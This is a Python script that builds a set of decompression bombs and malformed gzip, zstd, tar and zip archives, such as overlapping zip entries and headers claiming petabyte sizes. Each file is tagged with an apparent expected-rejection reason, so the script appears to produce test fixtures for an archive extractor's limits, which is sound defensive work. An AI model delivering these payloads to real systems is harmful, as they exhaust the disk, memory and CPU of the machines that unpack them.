"""Writes small files that unpack to a lot, or cost a lot: bombs.py DIRECTORY

Compressed streams are put together from pieces that were compressed once, so that making terabytes
takes no time. Checksums at their ends are left out: nothing reads that far.
"""
import os
import struct
import sys
import zlib

GIB = 1 << 30
GNU, POSIX = b"ustar  \0", b"ustar\x0000"


def header(name, size=0, flag=b"0", magic=POSIX, field=None):
    block = bytearray(512)
    block[0:len(name)] = name
    block[100:124] = b"0000644\0" + b"0000000\0" * 2
    block[124:136] = field or b"%011o\0" % size
    block[136:148] = b"00000000000\0"
    block[156:157] = flag
    block[257:265] = magic
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def base256(number):
    return b"\x80" + number.to_bytes(11, "big")


def pax(flag=b"x", **records):
    body = b""
    for key, value in records.items():
        rest = f" {key}={value}\n".encode()
        length = len(rest) + 1
        while len(str(length)) + len(rest) != length:
            length = len(str(length)) + len(rest)
        body += str(length).encode() + rest
    return header(b"PaxHeader", len(body), flag) + body + bytes(-len(body) % 512)


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)


def gzip(*pieces):
    return b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + b"".join(pieces) + b"\x03\0" + bytes(8)


def zstd(*blocks):
    """One frame with a window of 128 KiB; a block is raw bytes, or (byte, count) for a run."""
    out = [b"\x28\xb5\x2f\xfd\0", bytes([(17 - 10) << 3])]
    for block in blocks:
        run = isinstance(block, tuple)
        size = block[1] if run else len(block)
        out += [struct.pack("<I", size << 3 | run << 1)[:3], bytes([block[0]]) if run else block]
    return b"".join(out) + b"\x01\0\0"


def local(name, packed, size, method=8):
    fields = (20, 0, method, 0, 0, packed, size, len(name), 0)
    return struct.pack("<IHHHIIIIHH", 0x04034B50, *fields) + name


def central(name, packed, size, offset, method=8):
    return struct.pack("<IHHHHIIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, packed, size,
                       len(name), 0, 0, 0, 0, 0, offset) + name


def zipped(body, records):
    """With zip64 records, as there may be more than 65,534 entries."""
    directory = b"".join(records)
    count, size, at = len(records), len(directory), len(body)
    return b"".join([
        body, directory,
        struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, at),
        struct.pack("<IIQI", 0x07064B50, 0, at + size, 1),
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 65535), min(count, 65535), size, at, 0),
    ])


def empty_entries(count, width=7, offset=lambda i, size: i * size):
    names = [b"%07d" % i + b"n" * (width - 7) for i in range(count)]
    size = 30 + width
    body = b"".join(local(name, 0, 0, 0) for name in names)
    return zipped(body, [central(name, 0, 0, offset(i, size), 0) for i, name in enumerate(names)])


MIB = bytes(1 << 20)
ZEROS = deflated(MIB)
RUN = (0, 128 << 10)
BLANK = deflated(bytes(64 << 10))
BIG = header(b"zeros", field=base256(8 * GIB), magic=GNU)
kernel = local(b"0", len(ZEROS) * 1024, GIB) + ZEROS * 1024
small = [b"%05d" % i for i in range(20000)]

BOMBS = {
    "a gzip of one file of 8 GiB of zeros|ratio": gzip(deflated(BIG), ZEROS * 8192),
    "a gzip of 8 GiB of zeros that is no tar|ratio": gzip(ZEROS * 8192),
    "a gzip of 20,000 files of 64 KiB of zeros|ratio":
        gzip(*(deflated(header(name, 64 << 10)) + BLANK for name in small)),
    "a zstd of one file of 8 GiB of zeros|ratio": zstd(BIG, *[RUN] * 65536),
    "a zstd of 8 GiB of zeros that is no tar|ratio": zstd(*[RUN] * 65536),
    "a zstd of 20,000 files of 256 KiB of zeros|ratio":
        zstd(*(part for name in small for part in (header(name, 256 << 10), RUN, RUN))),
    "a zstd with a window of 2 GiB|zstd-window":
        b"\x28\xb5\x2f\xfd\0" + bytes([(31 - 10) << 3]) + b"\x01\0\0",
    "a zstd of two million empty frames|zstd-frames":
        b"\x28\xb5\x2f\xfd\x20\0\x01\0\0" * 2_000_000,
    "a tar that claims 8 EB|tar-number":
        header(b"x", field=base256((1 << 63) - 1), magic=GNU) + bytes(4096),
    "a tar that claims 4 PB|unpackedBytes":
        header(b"x", field=base256(1 << 52), magic=GNU) + bytes(4096),
    "a PAX record that claims 32 TB|unpackedBytes": pax(size=1 << 45) + header(b"x") + bytes(4096),
    "a PAX header of 8 GB|tar-extension-size":
        header(b"x", flag=b"x", field=b"77777777777\0") + bytes(4096),
    "a gzip of a million global headers|tar-pax-globals":
        gzip(deflated(pax(b"g", comment="x") * 1000) * 1000),
    "a name 10,000 directories deep|path-too-long":
        pax(path="/".join("d" * 10000)) + header(b"x") + bytes(1024),
    "a name 500 directories deep|depth": pax(path="/".join("d" * 500)) + header(b"x") + bytes(1024),
    "a zip whose 300 entries share 1 GiB|zip-entries-overlap":
        zipped(kernel, [central(b"%03d" % i, len(ZEROS) * 1024, GIB, 0) for i in range(300)]),
    "a zip whose 300 entries quote one another's headers|zip-entries-overlap":
        zipped(b"".join(local(b"%03d" % i, len(kernel), GIB) + b"\0\x21\0\xde\xff" for i in range(300))
               + kernel, [central(b"%03d" % i, len(kernel), GIB, i * 38) for i in range(300)]),
    "a zip of 1 GiB of zeros|ratio": zipped(kernel, [central(b"0", len(ZEROS) * 1024, GIB, 0)]),
    "a zip of 20,000 files of 64 KiB of zeros|ratio":
        zipped(b"".join(local(name, len(BLANK) + 2, 64 << 10) + BLANK + b"\x03\0" for name in small),
               [central(name, len(BLANK) + 2, 64 << 10, i * (37 + len(BLANK)))
                for i, name in enumerate(small)]),
    "a zip of a million entries|entries": empty_entries(1_000_000),
    "a zip with a central directory of 60 MB of one entry|entries":
        empty_entries(200_000, 260, lambda i, size: 0),
    "a zip that claims a trillion entries|zip-directory-misplaced":
        local(b"0", 0, 0, 0) + struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 10**12, 10**12,
                                           46 * 10**12, 31)
        + struct.pack("<IIQI", 0x07064B50, 0, 31, 1)
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 65535, 65535, 0xFFFFFFFF, 31, 0),
}

for index, (name, data) in enumerate(BOMBS.items()):
    with open(os.path.join(sys.argv[1], str(index)), "wb") as target:
        target.write(data)
    print(name)
